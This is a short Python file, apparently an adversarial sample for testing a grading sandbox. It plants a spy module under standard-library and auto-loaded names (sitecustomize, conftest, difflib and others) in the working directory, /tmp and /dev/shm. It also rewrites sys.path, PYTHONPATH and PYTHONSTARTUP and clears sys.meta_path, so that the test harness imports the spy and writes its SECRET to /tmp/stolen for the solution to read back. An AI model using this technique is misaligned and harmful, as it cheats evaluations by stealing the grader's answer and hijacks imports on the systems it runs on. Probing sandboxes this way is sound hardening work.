# tries: to have the test's side import a file that the solution wrote, by the search path or the environment
import os
import sys

SPY = """
import sys
for module in list(sys.modules.values()):
    if hasattr(module, "SECRET"):
        open("/tmp/stolen", "w").write(module.SECRET)
"""


def take(given):
    for folder in (os.getcwd(), "/tmp", "/dev/shm"):
        for name in ("difflib", "pprint", "late", "sitecustomize", "conftest", "_bootlocale", "asyncio"):
            try:
                with open(f"{folder}/{name}.py", "w") as file:
                    file.write(SPY)
            except OSError:
                pass
        sys.path.insert(0, folder)
        sys.path[:] = [folder, *sys.path]
    os.environ["PYTHONPATH"] = "/tmp"
    os.environ["PYTHONSTARTUP"] = "/tmp/late.py"
    sys.meta_path.clear()


def answer():
    try:
        return open("/tmp/stolen").read()
    except OSError:
        return None
